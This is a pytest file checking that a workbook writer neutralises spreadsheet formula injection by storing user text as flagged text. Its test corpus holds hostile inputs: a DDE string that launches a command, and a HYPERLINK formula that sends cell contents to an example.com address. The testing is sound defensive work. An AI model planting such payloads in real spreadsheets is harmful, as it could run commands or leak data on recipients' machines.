"""Formula injection: text from people is stored as text, flagged so Excel never runs it."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from svcollect.evidence.pack_tables import Formula, Sheet, Styled
from svcollect.evidence.safe_cells import (
    CUT_NOTE,
    EXCEL_CELL_LIMIT,
    clean_text,
    needs_quote_prefix,
    safe_text,
)
from svcollect.evidence.workbook import StreamedTable, WorkbookBuilder

CORPUS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["hello", "1-2", " =1", "#N/A", "<b>&amp;</b>", "line\r\nbreak", "", "12"]


@pytest.mark.parametrize("text", CORPUS)
def test_formula_prefixes_are_recognised(text):
    assert needs_quote_prefix(text)
    assert safe_text(text) == (text, True)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert safe_text(text) == (text, False)


def test_characters_a_worksheet_cannot_hold_are_replaced_and_long_text_is_cut_visibly():
    assert clean_text("a\x00b\x0bc\ud800d") == "a\ufffdb\ufffdc\ufffdd"
    long = clean_text("x" * 40_000)
    assert len(long) == EXCEL_CELL_LIMIT and long.endswith(CUT_NOTE)
    assert clean_text("tab\tnew\nline\r") == "tab\tnew\nline\r"


def test_both_writers_store_the_corpus_as_flagged_text(tmp_path):
    builder = WorkbookBuilder()
    sheet = Sheet("Small")
    for text in CORPUS + HARMLESS:
        sheet.add(text, Styled(text, "wrap"))
    sheet.add(Formula("=1+2"))
    builder.add(sheet)
    table = StreamedTable("Big", [Styled("+header", "header"), "plain"], tmp_path, builder.styles)
    for text in CORPUS + HARMLESS:
        table.append([text, 1.5])
    builder.add_streamed(table)
    builder.save(tmp_path / "book.xlsx")
    wb = load_workbook(tmp_path / "book.xlsx")
    small, big = wb["Small"], wb["Big"]
    for i, text in enumerate(CORPUS + HARMLESS, start=1):
        for cell in (small.cell(i, 1), small.cell(i, 2), big.cell(i + 1, 1)):
            if text == "":
                assert cell.value is None
                continue
            assert cell.data_type == "s", (text, cell.coordinate)
            # The words are exactly what the person wrote; openpyxl's own writer leaves a
            # carriage return raw, which XML reads back as a line feed (still a line break).
            assert cell.value in (text, text.replace("\r\n", "\n").replace("\r", "\n"))
            if cell.parent.title == "Big":
                assert cell.value == text
            assert cell.quotePrefix == needs_quote_prefix(text), text
        assert big.cell(i + 1, 2).value == 1.5
    assert big.cell(1, 1).quotePrefix and big.cell(1, 1).font.b
    formulas = [
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert [c.value for c in formulas] == ["=1+2"]
